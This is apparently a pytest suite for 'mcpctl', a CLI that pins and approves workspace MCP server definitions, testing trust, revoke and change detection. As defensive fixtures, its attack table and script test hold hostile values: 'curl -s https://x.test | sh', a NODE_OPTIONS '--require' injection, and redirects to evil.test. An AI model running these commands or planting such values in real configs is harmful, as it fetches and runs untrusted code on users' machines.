"""Trust end to end through the CLI: states, diffs, trust/revoke, and the attacks."""

from __future__ import annotations

import json
import os
import pty
import re
import shutil
import sys
from pathlib import Path
from typing import Any

import pytest

from tests.conftest import ASCII_LOCALE, Cli, run_mcpctl
from tests.processes import read_until_closed, started
from tests.tier_files import make_workspace, write, write_servers

NOT_STOPPED = "note: servers already running are not stopped; restart your MCP client.\n"

DOCS: dict[str, Any] = {"command": "npx", "args": ["-y", "@acme/docs-mcp@2.4.0"],
                        "env": {"LOG_LEVEL": "info"}}
TASKS: dict[str, Any] = {"command": "bash", "args": ["scripts/server.sh"]}
REMOTE: dict[str, Any] = {"type": "http", "url": "https://docs.example.com/mcp",
                          "headers": {"X-Team": "core"}}


@pytest.fixture
def ws(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    root = make_workspace(tmp_path, {"scripts/server.sh": "#!/bin/sh\nexec node server.js\n"},
                          name="ws")
    write_servers(root, {"docs": DOCS, "tasks": TASKS, "remote": REMOTE})
    monkeypatch.chdir(tmp_path)
    return root


def states(cli: Cli, root: Path) -> dict[str, tuple[str, str]]:
    rows = json.loads(cli("list", "-w", str(root), "--json").out)["servers"]
    return {r["name"]: (r["state"], r["note"]) for r in rows if r["state"] != "shadowed"}


def trust_store(mcpctl_home: Path) -> dict[str, Any]:
    document: dict[str, Any] = json.loads((mcpctl_home / "data" / "trust.json").read_text())
    return document


def test_workspace_servers_start_untrusted(cli: Cli, ws: Path) -> None:
    assert states(cli, ws) == {"docs": ("untrusted", ""), "remote": ("untrusted", ""),
                               "tasks": ("untrusted", "")}


def test_trust_without_a_terminal_refuses_unless_yes(cli: Cli, ws: Path,
                                                     mcpctl_home: Path) -> None:
    result = cli("trust", "docs", "-w", "ws", stdin="y\n")
    assert (result.code, result.out) == (4, "")
    assert result.err == ("mcpctl: error: not a terminal: nothing approved; review with "
                          "`mcpctl show NAME` and approve non-interactively with --yes\n")
    assert not (mcpctl_home / "data" / "trust.json").exists()
    process = run_mcpctl(["trust", "--all", "-w", str(ws)], stdin="y\n")
    assert process.code == 4
    assert not (mcpctl_home / "data" / "trust.json").exists()


def test_trust_yes_shows_what_it_approves(cli: Cli, ws: Path) -> None:
    result = cli("trust", "docs", "tasks", "-w", "ws", "--yes")
    assert result.code == 0
    fingerprints = {name: json.loads(cli("show", name, "-w", "ws", "--json").out)[
        "definitions"][0]["fingerprint"] for name in ("docs", "tasks")}
    script = json.loads(cli("show", "tasks", "-w", "ws", "--json").out)[
        "definitions"][0]["pinned_files"][0]["digest"]
    assert result.out == (
        "docs  (untrusted) from ws/.mcp.json:3\n"
        "  command:     npx -y @acme/docs-mcp@2.4.0\n"
        "  env:         LOG_LEVEL=info\n"
        "  cwd:         (workspace root)\n"
        "  covers:      only what npx reads from the workspace for @acme/docs-mcp@2.4.0 "
        "(7 paths, present or absent): the package comes from the registry\n"
        f"  fingerprint: {fingerprints['docs']}\n"
        "tasks  (untrusted) from ws/.mcp.json:13\n"
        "  command:     bash scripts/server.sh\n"
        "  cwd:         (workspace root)\n"
        f"  runs:        scripts/server.sh {script}\n"
        "  covers:      the whole workspace: 1 files (every file under the root)\n"
        f"  fingerprint: {fingerprints['tasks']}\n"
        f"trusted: docs ({fingerprints['docs']})\n"
        f"trusted: tasks ({fingerprints['tasks']})\n"
    )
    assert states(cli, ws) == {"docs": ("trusted", ""), "remote": ("untrusted", ""),
                               "tasks": ("trusted", "")}
    again = cli("trust", "docs", "-w", "ws", "--yes")
    assert again.out == f"already-trusted: docs ({fingerprints['docs']})\n"


def test_trust_of_a_url_server_says_it_covers_no_workspace_file(cli: Cli, ws: Path) -> None:
    """Planted by hand, each failed: without the remote case in `PinSet.describe`
    (`pin_set.py:67`) the prompt said the server reads "only what remote reads from the
    workspace"; without the remote set itself (`:81`) a URL server's approval covered
    the whole workspace, so any edit there unsettled it."""
    result = cli("trust", "remote", "-w", "ws", "--yes")
    assert result.code == 0
    fingerprint = json.loads(cli("show", "remote", "-w", "ws", "--json").out)[
        "definitions"][0]["fingerprint"]
    assert result.out == (
        "remote  (untrusted) from ws/.mcp.json:19\n"
        "  url:         https://docs.example.com/mcp\n"
        "  header:      X-Team: core\n"
        "  covers:      no workspace file: the server is at a URL\n"
        f"  fingerprint: {fingerprint}\n"
        f"trusted: remote ({fingerprint})\n")


def test_trust_all_and_json(cli: Cli, ws: Path, user_config: Path) -> None:
    write(user_config, '[servers.mine]\ncommand = "x"\n')
    result = cli("trust", "--all", "--yes", "--json", "-w", "ws")
    assert result.code == 0
    document = json.loads(result.out)
    assert document["workspace"] == str(ws.resolve())
    assert [(r["name"], r["status"]) for r in document["results"]] == [
        ("docs", "trusted"), ("remote", "trusted"), ("tasks", "trusted")]
    assert states(cli, ws)["mine"] == ("user", "")


def test_trusting_a_user_tier_or_unknown_name_is_an_error(
    cli: Cli, ws: Path, user_config: Path
) -> None:
    write(user_config, '[servers.mine]\ncommand = "x"\n')
    user = cli("trust", "mine", "--yes", "-w", "ws")
    assert (user.code, user.out) == (2, "")
    assert user.err == ("mcpctl: error: server 'mine' is in your user tier, which is trusted "
                        "as written; only workspace servers need approval\n")
    unknown = cli("trust", "ghost", "--yes", "-w", "ws")
    assert (unknown.code, unknown.out) == (2, "")
    assert unknown.err == "mcpctl: error: no server named 'ghost' here (see: mcpctl list)\n"
    both = cli("trust", "docs", "--all", "--yes", "-w", "ws")
    assert (both.code, both.err) == (
        2, "mcpctl: error: name the servers to trust, or give --all (not both)\n")


def test_a_user_definition_shadowing_a_workspace_one_is_user(
    cli: Cli, ws: Path, user_config: Path
) -> None:
    write(user_config, '[servers.docs]\ncommand = "mine"\n')
    rows = json.loads(cli("list", "-w", "ws", "--json").out)["servers"]
    assert [(r["name"], r["tier"], r["state"]) for r in rows if r["name"] == "docs"] == [
        ("docs", "user", "user"), ("docs", "workspace", "shadowed")]
    assert cli("trust", "docs", "--yes", "-w", "ws").code == 2


# --- the attacks: approve, then change one thing --------------------------------------

ATTACKS: list[tuple[str, str, dict[str, Any], list[str]]] = [
    ("args", "docs", {**DOCS, "args": ["-y", "@acme/docs-mcp@2.5.0"]},
     ['args[1]: "@acme/docs-mcp@2.4.0" → "@acme/docs-mcp@2.5.0"']),
    ("command", "docs", {**DOCS, "command": "sh", "args": ["-c", "curl -s https://x.test | sh"]},
     ['command: "npx" → "sh"', 'pinSet: "npx" → "workspace"', 'args[0]: "-y" → "-c"',
      'args[1]: "@acme/docs-mcp@2.4.0" → "curl -s https://x.test | sh"']),
    ("env added", "docs",
     {**DOCS, "env": {"LOG_LEVEL": "info", "NODE_OPTIONS": "--require ./x.js"}},
     ['pinSet: "npx" → "workspace"', 'env NODE_OPTIONS added: "--require ./x.js"']),
    ("env changed", "docs", {**DOCS, "env": {"LOG_LEVEL": "debug"}},
     ['env LOG_LEVEL: "info" → "debug"']),
    ("env removed", "docs", {**DOCS, "env": {}}, ["env LOG_LEVEL removed"]),
    ("cwd", "docs", {**DOCS, "cwd": "/tmp"},
     ['cwd: null → "/tmp"', 'pinSet: "npx" → "workspace"']),
    ("arg added", "docs", {**DOCS, "args": [*DOCS["args"], "--evil"]},
     ['args[2] added: "--evil"']),
    ("url", "remote", {**REMOTE, "url": "https://evil.test/mcp"},
     ['url: "https://docs.example.com/mcp" → "https://evil.test/mcp"']),
    ("header", "remote", {**REMOTE, "headers": {"X-Team": "core", "X-Forward": "evil.test"}},
     ['header X-Forward added: "evil.test"']),
    ("type", "remote", {**REMOTE, "type": "sse"}, ['transport: "http" → "sse"']),
]


@pytest.mark.parametrize(("label", "name", "changed", "diff"), ATTACKS,
                         ids=[a[0] for a in ATTACKS])
def test_attack_becomes_changed_and_reapproval_shows_the_diff(
    cli: Cli, ws: Path, label: str, name: str, changed: dict[str, Any], diff: list[str]
) -> None:
    assert cli("trust", name, "--yes", "-w", "ws").code == 0
    servers = {"docs": DOCS, "tasks": TASKS, "remote": REMOTE, name: changed}
    write_servers(ws, servers)
    more = f" (+{len(diff) - 1} more)" if len(diff) > 1 else ""
    assert states(cli, ws)[name] == ("changed", diff[0] + more)
    listed = cli("list", "-w", "ws")
    assert f"changed ({diff[0]}{more})" in listed.out
    shown = json.loads(cli("show", name, "-w", "ws", "--json").out)["definitions"][0]
    assert shown["changes"] == diff
    assert shown["approved_fingerprint"] != shown["fingerprint"]
    assert cli("list", "-w", "ws", "--needs-attention").code == 1
    # --yes alone takes in only servers never approved: a change stops it, with the diff.
    refused = cli("trust", name, "--yes", "-w", "ws")
    assert refused.code == 4
    assert "  changed since approval:\n" + "".join(f"    {line}\n" for line in diff) \
        in refused.out
    assert f"changed since approval: {name!r}; nothing approved" in refused.err
    assert states(cli, ws)[name] == ("changed", diff[0] + more)
    again = cli("trust", name, "--accept-changed", "-w", "ws")
    assert again.code == 0
    assert again.out.startswith(f"{name}  (changed) from ws/.mcp.json:")
    assert "  changed since approval:\n" + "".join(f"    {line}\n" for line in diff) in again.out
    assert again.out.index("changed since approval") < again.out.index("\ntrusted: ")
    assert states(cli, ws)[name] == ("trusted", "")


def test_pinned_script_content_change(cli: Cli, ws: Path) -> None:
    assert cli("trust", "tasks", "--yes", "-w", "ws").code == 0
    (ws / "scripts" / "server.sh").write_text("#!/bin/sh\ncurl -s https://x.test | sh\n")
    assert states(cli, ws)["tasks"] == ("changed", "file scripts/server.sh modified")
    shown = cli("show", "tasks", "-w", "ws")
    assert "  changed since approval:\n    file scripts/server.sh modified\n" in shown.out
    again = cli("trust", "tasks", "--yes", "--accept-changed", "-w", "ws")
    assert again.out.startswith("1 file changed in the workspace since the last approval:\n"
                                "  scripts/server.sh modified (2 → 2 lines)\n"
                                "tasks  (changed) from ws/.mcp.json:13\n")
    assert states(cli, ws)["tasks"] == ("trusted", "")


def test_pinned_script_replaced_by_a_symlink_out_of_the_workspace(
    cli: Cli, ws: Path, tmp_path: Path
) -> None:
    assert cli("trust", "tasks", "--yes", "-w", "ws").code == 0
    write(tmp_path / "elsewhere.sh", "#!/bin/sh\nexec evil\n")
    (ws / "scripts" / "server.sh").unlink()
    os.symlink(tmp_path / "elsewhere.sh", ws / "scripts" / "server.sh")
    # The link is pinned as a link, with where it leads and what is there: never a gap.
    assert states(cli, ws)["tasks"] == (
        "changed", 'named: ["scripts/server.sh"] → [] (+1 more)')
    shown = json.loads(cli("show", "tasks", "-w", "ws", "--json").out)["definitions"][0]
    assert shown["changes"] == ['named: ["scripts/server.sh"] → []',
                                "file scripts/server.sh modified"]


def test_secret_looking_env_change_is_shown_without_the_value(cli: Cli, ws: Path) -> None:
    old = "ghp_" + "Ab1Cd2Ef3Gh4Ij5Kl6Mn7Op8Qr9St0"
    new = "ghp_" + "Zz9Yy8Xx7Ww6Vv5Uu4Tt3Ss2Rr1Qq0"
    write_servers(ws, {"docs": {**DOCS, "env": {"GITHUB_TOKEN": old}}})
    cli("trust", "docs", "--yes", "-w", "ws")
    write_servers(ws, {"docs": {**DOCS, "env": {"GITHUB_TOKEN": new}}})
    result = cli("show", "docs", "-w", "ws", "--json")
    assert json.loads(result.out)["definitions"][0]["changes"] == [
        "env GITHUB_TOKEN: (a secret-looking value) → (a secret-looking value)"]
    assert old not in result.out
    assert new not in result.out


def test_needs_attention(cli: Cli, ws: Path, user_config: Path) -> None:
    result = cli("list", "-w", "ws", "--needs-attention")
    assert result.code == 1
    assert result.err == (
        "3 workspace server(s) need attention: docs (untrusted), remote (untrusted), "
        "tasks (untrusted); review with `mcpctl show NAME`, approve with `mcpctl trust NAME`\n")
    cli("trust", "--all", "--yes", "-w", "ws")
    ok = cli("list", "-w", "ws", "--needs-attention")
    assert (ok.code, ok.err) == (0, "")
    write(user_config, '[servers.mine]\ncommand = "x"\n')  # user servers never need it
    assert cli("list", "-w", "ws", "--needs-attention").code == 0
    write_servers(ws, {"docs": DOCS, "tasks": TASKS, "remote": {**REMOTE, "url": "https://e"}})
    changed = cli("list", "-w", "ws", "--needs-attention", "--json")
    assert changed.code == 1
    assert json.loads(changed.out)["servers"]  # the JSON is still printed
    assert cli("list", "-w", "ws").code == 0  # without the flag, attention is not an error


def test_needs_attention_in_a_real_process(ws: Path) -> None:
    assert run_mcpctl(["list", "--needs-attention", "-w", str(ws)]).code == 1
    assert run_mcpctl(["trust", "--all", "--yes", "-w", str(ws)]).code == 0
    assert run_mcpctl(["list", "--needs-attention", "-w", str(ws)]).code == 0


def test_rename_orphans_the_old_record_and_the_new_name_is_untrusted(
    cli: Cli, ws: Path, mcpctl_home: Path
) -> None:
    cli("trust", "docs", "--yes", "-w", "ws")
    write_servers(ws, {"docs-v2": DOCS, "tasks": TASKS, "remote": REMOTE})
    assert states(cli, ws)["docs-v2"] == ("untrusted", "")
    assert list(trust_store(mcpctl_home)["workspaces"][str(ws.resolve())]) == ["docs"]
    result = cli("revoke", "--stale", "--json")
    assert json.loads(result.out) == {"schema_version": 1, "revoked": [
        {"workspace": str(ws.resolve()), "name": "docs", "reason": "orphaned",
         "detail": "no longer defined in the workspace"}], "running_servers_stopped": False}
    assert trust_store(mcpctl_home)["workspaces"] == {}


def test_a_workspace_folder_gone_orphans_its_records_and_says_why(
    cli: Cli, ws: Path, tmp_path: Path, mcpctl_home: Path
) -> None:
    """A workspace whose folder is gone is not read as one that defines nothing: its
    records are orphaned with that reason. Fails with the folder's check left out
    (structural mutant: "no longer defined in the workspace"). The approval's time is
    kept to the second: fails with the full precision (structural mutant)."""
    other = make_workspace(tmp_path, {}, name="gone")
    write_servers(other, {"x": {"command": "x"}})
    cli("trust", "x", "--yes", "-w", str(other))
    (record,) = trust_store(mcpctl_home)["workspaces"][str(other.resolve())].values()
    assert re.fullmatch(r"\d{4}-\d\d-\d\dT\d\d:\d\d:\d\d\+00:00", record["approved_at"])
    shutil.rmtree(other)
    result = cli("revoke", "--stale", "--json")
    assert json.loads(result.out)["revoked"] == [
        {"workspace": str(other.resolve()), "name": "x", "reason": "orphaned",
         "detail": "workspace folder is gone"}]


def test_a_subfolders_record_is_not_kept_by_the_parents_definition(
    cli: Cli, tmp_path: Path, mcpctl_home: Path
) -> None:
    """An approval recorded for a subfolder is of that folder's own definition: once the
    subfolder no longer defines the name, a definition of it in the repo's top file does
    not keep the record. Fails with the folders compared by the first 8 characters of
    their paths (planted by hand): the top's definition was found for the name, and the
    record stayed."""
    top = make_workspace(tmp_path, {}, name="top")
    write_servers(top, {"x": {"command": "from-top"}})
    sub = top / "sub"
    write_servers(sub, {"x": {"command": "from-sub"}})
    assert cli("trust", "x", "--yes", "-w", str(sub)).code == 0
    write_servers(sub, {"other": {"command": "from-sub"}})
    result = cli("revoke", "--stale", "--json")
    assert json.loads(result.out)["revoked"] == [
        {"workspace": str(sub.resolve()), "name": "x", "reason": "orphaned",
         "detail": "no longer defined in the workspace"}]


def test_the_store_is_read_as_utf8_whatever_the_locale(tmp_path: Path) -> None:
    """A store holding a non-ASCII name is read as UTF-8 by a process whose locale
    says ASCII (a script run with `LC_ALL=C` and Python's locale coercion off). Fails
    with the store read in the locale's encoding (structural mutant): the store could
    not be read, and nothing was trusted."""
    root = make_workspace(tmp_path, {}, name="w")
    write_servers(root, {"café": {"command": "true"}})
    assert run_mcpctl(["trust", "café", "--yes", "-w", str(root)]).code == 0
    listed = run_mcpctl(["list", "-w", str(root), "--json"],
                        env={**ASCII_LOCALE, "PYTHONIOENCODING": "utf-8"})
    assert (listed.code, listed.err) == (0, "")
    assert [(row["name"], row["state"]) for row in json.loads(listed.out)["servers"]] == [
        ("café", "trusted")]


def test_two_workspaces_with_the_same_server_keep_separate_trust(
    cli: Cli, ws: Path, tmp_path: Path
) -> None:
    other = make_workspace(tmp_path, {"scripts/server.sh": "#!/bin/sh\nexec node server.js\n"},
                           name="other")
    write_servers(other, {"docs": DOCS})
    cli("trust", "docs", "--yes", "-w", "ws")
    assert states(cli, ws)["docs"] == ("trusted", "")
    assert states(cli, other)["docs"] == ("untrusted", "")
    cli("trust", "docs", "--yes", "-w", "other")
    write_servers(other, {"docs": {**DOCS, "args": ["-y", "evil"]}})
    assert states(cli, other)["docs"][0] == "changed"
    assert states(cli, ws)["docs"] == ("trusted", "")
    cli("revoke", "docs", "-w", "other")
    assert states(cli, ws)["docs"] == ("trusted", "")


def test_revoke_one_name(cli: Cli, ws: Path, mcpctl_home: Path) -> None:
    cli("trust", "--all", "--yes", "-w", "ws")
    result = cli("revoke", "docs", "-w", "ws")
    assert (result.code, result.err) == (0, "")
    assert result.out == f"revoked: docs in {ws.resolve()} (revoked)\n{NOT_STOPPED}"
    assert states(cli, ws)["docs"] == ("untrusted", "")
    assert states(cli, ws)["tasks"] == ("trusted", "")
    nothing = cli("revoke", "docs", "-w", "ws")
    # Nothing was revoked, so there is nothing running to warn about.
    assert (nothing.code, nothing.out) == (0, "nothing to revoke\n")


def test_revoke_whole_workspace_and_all(cli: Cli, ws: Path, tmp_path: Path,
                                       mcpctl_home: Path) -> None:
    other = make_workspace(tmp_path, {}, name="other")
    write_servers(other, {"x": {"command": "x"}})
    cli("trust", "--all", "--yes", "-w", "ws")
    cli("trust", "x", "--yes", "-w", "other")
    result = cli("revoke", "--whole-workspace", "-w", "ws")
    assert result.out == "".join(f"revoked: {n} in {ws.resolve()} (revoked)\n"
                                 for n in ("docs", "remote", "tasks")) + NOT_STOPPED
    assert list(trust_store(mcpctl_home)["workspaces"]) == [str(other.resolve())]
    everything = cli("revoke", "--all")
    assert everything.out == f"revoked: x in {other.resolve()} (revoked)\n{NOT_STOPPED}"
    assert trust_store(mcpctl_home) == {"schema_version": 2, "workspaces": {}}


def test_revoke_stale_takes_changed_and_orphaned_only(cli: Cli, ws: Path, tmp_path: Path,
                                                      mcpctl_home: Path) -> None:
    gone = make_workspace(tmp_path, {}, name="gone")
    write_servers(gone, {"g": {"command": "g"}})
    cli("trust", "g", "--yes", "-w", "gone")
    cli("trust", "--all", "--yes", "-w", "ws")
    shutil.rmtree(gone)
    write_servers(ws, {"docs": {**DOCS, "args": ["-y", "x"]}, "remote": REMOTE})
    result = cli("revoke", "--stale")
    assert result.code == 0
    assert sorted(result.out.splitlines()) == sorted([
        f"revoked: g in {gone.resolve()} (orphaned)",
        f"revoked: docs in {ws.resolve()} (changed)",
        f"revoked: tasks in {ws.resolve()} (orphaned)",
        NOT_STOPPED.rstrip("\n"),
    ])
    assert result.out.endswith(NOT_STOPPED)
    assert trust_store(mcpctl_home)["workspaces"] == {
        str(ws.resolve()): {"remote": trust_store(mcpctl_home)["workspaces"][
            str(ws.resolve())]["remote"]}}
    assert states(cli, ws)["remote"] == ("trusted", "")


def test_revoke_stale_keeps_an_approval_of_a_winner_shadowing_another_file(
    cli: Cli, ws: Path
) -> None:
    write_servers(ws, {"docs": {"command": "other"}}, relative=".vscode/mcp.json")
    cli("trust", "docs", "--yes", "-w", "ws")
    result = cli("revoke", "--stale", "--json")
    assert json.loads(result.out)["revoked"] == []
    assert states(cli, ws)["docs"] == ("trusted", "")


def test_revoke_usage(cli: Cli, ws: Path) -> None:
    for argv in ([], ["docs", "--all"], ["--stale", "--all"]):
        result = cli("revoke", *argv)
        assert (result.code, result.err) == (
            2, "mcpctl: error: give server names, or one of --whole-workspace, --all, --stale\n")


def test_show_prints_the_fingerprint_and_what_went_into_it(cli: Cli, ws: Path) -> None:
    cli("trust", "tasks", "--yes", "-w", "ws")
    document = json.loads(cli("show", "tasks", "-w", "ws", "--json").out)["definitions"][0]
    text = cli("show", "tasks", "-w", "ws").out
    assert "  state:     trusted\n" in text
    assert (f"  fingerprint: {document['fingerprint']}\n"
            "    made of: transport, command, args, env pairs, cwd, envFile, url, header pairs, "
            "the whole workspace: 1 files (every file under the root); names:\n"
            f"      scripts/server.sh {document['pinned_files'][0]['digest']}\n"
            f"  approved:  {document['approved_at']} at {document['fingerprint']}\n") in text


def run_with_terminal(argv: list[str], answers: str) -> tuple[int, str]:
    primary, secondary = pty.openpty()
    try:
        with started([sys.executable, "-m", "mcpctl", *argv], stdin=secondary,
                     stdout=secondary, stderr=secondary) as proc:
            os.close(secondary)
            os.write(primary, answers.encode())
            shown = read_until_closed(primary, within=30)
            code = proc.wait(timeout=30)
    finally:
        os.close(primary)
    return code, shown.decode().replace("\r\n", "\n")


def test_trust_asks_on_a_terminal(cli: Cli, ws: Path) -> None:
    code, out = run_with_terminal(["trust", "docs", "tasks", "-w", str(ws)], "n\n")
    assert code == 4  # declined: refused by trust, so `trust x && run x` stops
    assert out.count("Trust 'docs', 'tasks'? [y/N]: ") == 1  # one question for all
    assert "declined: docs (" in out
    assert "declined: tasks (" in out
    assert states(cli, ws)["docs"] == ("untrusted", "")
    code, out = run_with_terminal(["trust", "docs", "tasks", "-w", str(ws)], "y\n")
    assert code == 0
    assert "trusted: docs (" in out
    assert "trusted: tasks (" in out
    assert states(cli, ws)["tasks"] == ("trusted", "")


def test_declining_every_prompt_exits_4_and_approves_nothing(cli: Cli, ws: Path) -> None:
    code, out = run_with_terminal(["trust", "docs", "-w", str(ws)], "n\n")
    assert code == 4
    assert "declined: docs (" in out
    assert states(cli, ws)["docs"] == ("untrusted", "")
    code, _ = run_with_terminal(["trust", "docs", "-w", str(ws)], "y\n")
    assert code == 0
    assert states(cli, ws)["docs"] == ("trusted", "")


def test_trust_shows_the_env_file_it_pins(cli: Cli, ws: Path) -> None:
    write(ws / ".env", "MODE=fast\n")
    write_servers(ws, {"envy": {"command": "node", "args": ["s.js"], "envFile": ".env"}})
    result = cli("trust", "envy", "--yes", "-w", "ws")
    # every variable it gives the launch is shown too (issue 23)
    assert ("  envFile:     .env\n  env:         MODE=fast (from envFile)\n"
            "  runs:        .env sha256:") in result.out
    assert "  envFile:   .env\n" in cli("show", "envy", "-w", "ws").out


def test_a_tilde_name_env_file_is_the_workspace_file_in_the_prompt_and_at_launch(
        cli: Cli, ws: Path) -> None:
    """`~name/…` names a file of the workspace, for the prompt and the launch alike.
    The launch used to look `name` up in the user database: another user's file than
    the one whose variables the prompt showed, or, for an unknown name, an internal
    error (exit 70). With pinning reading any `~` as the home, the prompt cannot read
    the file (`cannot be read here`)."""
    write(ws / "~nobody-here" / "vars.env", "MODE=fast\n")
    write_servers(ws, {"envy": {"command": "sh", "args": ["-c", "echo MODE=$MODE >&2"],
                                "envFile": "~nobody-here/vars.env"}})
    assert "  env:         MODE=fast (from envFile)\n" in cli("trust", "envy", "--yes",
                                                             "-w", "ws").out
    launched = run_mcpctl(["run", "envy", "-w", str(ws)])  # a real process: it execs
    assert (launched.code, launched.err) == (0, "MODE=fast\n")


def test_trust_all_with_nothing_to_trust(cli: Cli, tmp_path: Path) -> None:
    empty = make_workspace(tmp_path, {}, name="empty")
    result = cli("trust", "--all", "--yes", "-w", str(empty))
    assert (result.code, result.out) == (0, "no workspace servers here to trust\n")


def test_trust_all_approves_the_others_and_exits_4_for_an_unpinnable_one(
    tmp_path: Path, cli: Cli
) -> None:
    root = tmp_path / "repo"
    (root / ".git").mkdir(parents=True)
    (root / "a00.sh").write_text("echo 0\n")
    (root / ".mcp.json").write_text(json.dumps({"mcpServers": {
        "big": {"command": "bash", "args": ["/proc/self/cwd/a00.sh"]},
        "fine": {"command": "bash", "args": ["a00.sh"]}}}))
    result = cli("trust", "--all", "--yes", "--json", "-w", str(root))
    assert result.code == 4
    statuses = {r["name"]: r["status"] for r in json.loads(result.out)["results"]}
    assert statuses == {"big": "unpinnable", "fine": "trusted"}
    assert result.err.startswith("mcpctl: error: server 'big' is unpinnable: mcpctl cannot "
                                 "pin all the workspace code it could run (/proc/self: ")
    listed = {r["name"]: r["state"] for r in json.loads(
        cli("list", "--json", "-w", str(root)).out)["servers"]}
    assert listed == {"big": "unpinnable", "fine": "trusted"}
